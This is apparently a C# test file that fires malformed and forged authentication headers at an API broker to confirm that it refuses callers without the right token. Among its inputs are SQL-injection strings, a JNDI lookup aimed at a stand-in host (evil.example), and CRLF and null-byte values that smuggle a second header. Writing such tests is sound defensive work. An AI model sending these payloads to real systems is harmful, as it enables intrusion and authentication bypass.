using Broker.Wire;

namespace Broker.Attacks.Attacks;

/// <summary>C11 to C17, C88: whoever does not hold the caller token.</summary>
internal static class CallerAttacks
{
    private const string Refusal = "401 client_token_required";

    private static readonly string[] WrongTokens =
    [
        "X-Broker-Token:", "X-Broker-Token: x", "Authorization: Bearer x", "Authorization: Bearer", "Authorization:", "api-key: x", "Authorization: Basic eDp4",
        "X-Broker-Token: ' OR '1'='1' --", "Authorization: Bearer ${jndi:ldap://evil.example/x}",
    ];

    // {0} stands for the right token.
    private static readonly string[] SpoiltTokens =
    [
        "X-Broker-Token: {0}x", "X-Broker-Token: Bearer {0}", "X-Broker-Token: {0},{0}", "Authorization: {0}", "Authorization: Basic {0}", "Authorization: Bearer{0}",
        "Authorization: Bearer\t{0}", "Authorization: Bearer {0}, Bearer {0}", "Authorization: Bearer token={0}", "Proxy-Authorization: Bearer {0}",
        "Cookie: token={0}", "X_Broker_Token: {0}", "X-Broker-Token: {0}\u00c2\u00a0",
    ];

    private static readonly string[] HiddenTokens = ["X-A: 1\r\n X-Broker-Token: {0}", "X-A: 1\rX-Broker-Token: {0}", "X-A: 1\0X-Broker-Token: {0}"];

    private static readonly string[] Contradictions =
    [
        "X-Broker-Token: {0}|X-Broker-Token: {0}", "Authorization: Bearer {0}|Authorization: Bearer x", "Authorization: Basic eDp5|Authorization: Bearer {0}",
        "Authorization: Bearer {0}|Authorization: Bearer {0}", "Authorization: Bearer {0}|X-Broker-Token: x", "X-Broker-Token: {0}|Authorization: Bearer sk-mine",
        "X-Broker-Token: {0}|Authorization: Bearer", "X-Broker-Token: {0}|api-key: x", "api-key: {0}|x-api-key: x", "api-key: {0}|API-KEY: {0}", "x-api-key: {0}|x-api-key:",
    ];

    public static IEnumerable<Attack> All =>
    [
        new RequestAttack("C11", "no token", [Refusal], scene => scene.Anonymous, Judges.Unknown) { Needs = Needs.Path },
        .. WrongTokens.Select(header => Wrong("C11", header)),
        .. SpoiltTokens.Select(header => Spoilt(header, Refusal)),
        .. HiddenTokens.Select(header => Spoilt(header, "400")),
        Spoilt("X-Broker-Token: the token in capitals", scene => $"X-Broker-Token: {scene.Settings.Token!.ToUpperInvariant()}", Refusal),
        Spoilt("the first half of the token", scene => scene.Carrier + scene.Settings.Token![..(scene.Settings.Token!.Length / 2)], Refusal),
        new RequestAttack(
            "C11", "the token in the query", [Refusal],
            scene => scene.Anonymous with { Target = $"{scene.Settings.Path}?token={scene.Settings.Token}" },
            Judges.Unknown) { Needs = Needs.Token | Needs.Questions },
        TellsNothing("C11", "/v1/unknown", null), TellsNothing("C11", "/", null),
        TellsNothing("C88", "/v1/unknown", "Authorization: Bearer x"), TellsNothing("C88", "/v1/unknown", "api-key: x"),
        TellsNothing("C88", "/v1/unknown", "x-api-key: x"), TellsNothing("C88", "/v1/unknown", "x-goog-api-key: x"),
        Strange("a token in Latin-1", "t\u00f6k"), Strange("a token in UTF-8", "t\u00c3\u00b6k"), Strange("a token of no characters at all", "\u00ff\u00fe"),
        Both("the token's header twice, the right one first", scene => [scene.Carrier + scene.Settings.Token, scene.Carrier + "x"]),
        Both("the token's header twice, the right one last", scene => [scene.Carrier + "x", scene.Carrier + scene.Settings.Token]),
        Both("the right token and a wrong one in one line", scene => [$"{scene.Carrier}{scene.Settings.Token}, Bearer x"]),
        .. Contradictions.Select(headers => Both(Named(headers), scene => Filled(headers, scene).Split('|'))),
        Wrong("C17", "Authorization: Bearer ' OR 1=1--"),
        new RequestAttack(
            "C17", "a token of 30 KiB", [Refusal],
            scene => With(scene, $"Authorization: Bearer {new string('x', 30 * 1024)}"),
            Judges.Unknown) { Needs = Needs.Questions },
        new RequestAttack(
            "C17", "a token of one megabyte", ["431"],
            scene => With(scene, $"Authorization: Bearer {new string('x', 1024 * 1024)}"),
            Judges.Unknown) { Needs = Needs.Questions, IsDangerous = true },
    ];

    private static RequestAttack Wrong(string id, string header) => new(id, header, [Refusal], scene => With(scene, header), Judges.Unknown) { Needs = Needs.Questions };

    private static RequestAttack Spoilt(string header, string answer) => Spoilt(Named(header), scene => Filled(header, scene), answer);

    private static RequestAttack Spoilt(string name, Func<Scene, string> header, string answer) =>
        new("C11", name, [answer], scene => With(scene, header(scene)), Judges.Unknown) { Needs = Needs.Token | Needs.Questions };

    private static RequestAttack TellsNothing(string id, string path, string? header) => new(
        id,
        $"{path}, which nothing allows, {header ?? "without a token"}",
        [Refusal],
        scene => With(scene, header is null ? [] : [header]) with { Target = path },
        Judges.TellsNothing) { Needs = Needs.Questions };

    private static RequestAttack Strange(string name, string token) =>
        new("C12", name, [Refusal], scene => With(scene, scene.Carrier + token), Judges.Unknown) { Needs = Needs.Questions, IsDangerous = true };

    private static RequestAttack Both(string name, Func<Scene, string[]> headers) =>
        new("C13", name, [Refusal], scene => With(scene, headers(scene)), Judges.Refused) { Needs = Needs.Token | Needs.Questions | Needs.Service };

    private static RawRequest With(Scene scene, params string[] headers) => scene.Anonymous with { Headers = [.. scene.Anonymous.Headers, .. headers] };

    private static string Filled(string header, Scene scene) => header.Replace("{0}", scene.Settings.Token, StringComparison.Ordinal);

    private static string Named(string header) => RawRequest.Printable(header.Replace("{0}", "(the token)", StringComparison.Ordinal));
}
